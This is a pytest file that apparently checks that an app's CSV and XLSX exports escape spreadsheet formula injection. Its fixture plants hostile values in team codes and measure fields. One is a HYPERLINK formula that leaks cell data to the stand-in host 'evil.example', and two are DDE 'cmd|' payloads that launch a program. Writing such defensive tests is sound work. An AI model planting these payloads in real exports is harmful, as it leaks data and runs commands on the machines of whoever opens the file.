"""Formula injection (security plan check #19): text an admin or lead typed, planted as a formula,
arrives in every CSV/XLSX download as inert text; numbers stay numbers."""

import csv
import datetime as dt
import io

import openpyxl
import pytest

from collaboratives.exports import FORMULA_TRIGGERS
from measures.charts.recompute import recompute_all
from measures.models import Observation, RunChartAnalysis
from tests.factories import MeasureFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


@pytest.fixture
def planted(world, django_capture_on_commit_callbacks):
    world.team_a1.code = "=1+2"
    world.team_a1.save()
    measure = MeasureFactory(
        collaborative=world.one,
        code="planted",
        name=HYPERLINK,
        numerator_definition="+cmd|' /C calc'!A0",
        denominator_definition="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    for i in range(3):
        Observation.objects.create(
            team=world.team_a1,
            measure=measure,
            month=dt.date(2025, 1 + i, 1),
            numerator=3 + i,
            denominator=10,
        )
    with django_capture_on_commit_callbacks(execute=True):
        recompute_all(collaborative_ids=[world.one.id])
    return measure


def _live_formulas(cells):
    return [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_TRIGGERS)]


def test_the_csv_import_template_neutralises_a_planted_team_code(world, planted, client):
    client.force_login(world.alice)
    response = client.get(f"/collaboratives/{world.one.public_id}/import/template.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'=1+2" in cells
    assert _live_formulas(cells) == []


def test_the_xlsx_import_template_neutralises_planted_names_and_definitions(world, planted, client):
    client.force_login(world.alice)
    response = client.get(f"/collaboratives/{world.one.public_id}/import/template.xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row if c.value is not None]
    values = [c.value for c in cells]
    assert "'" + HYPERLINK in values
    assert "'+cmd|' /C calc'!A0" in values
    assert "'=1+2" in values
    assert _live_formulas(values) == []
    assert {c.data_type for c in cells} <= {"s", "n"}  # no cell of type "f" (formula)


def test_the_chart_csv_has_no_live_formula_and_keeps_numbers_as_numbers(world, planted, client):
    client.force_login(world.alice)
    chart = RunChartAnalysis.objects.get(kind="team", team=world.team_a1, measure=planted)
    rows = list(csv.reader(io.StringIO(client.get(f"/charts/{chart.public_id}/data.csv").content.decode())))
    assert [row[1] for row in rows[1:]] == ["3", "4", "5"]
    assert _live_formulas([cell for row in rows for cell in row]) == []
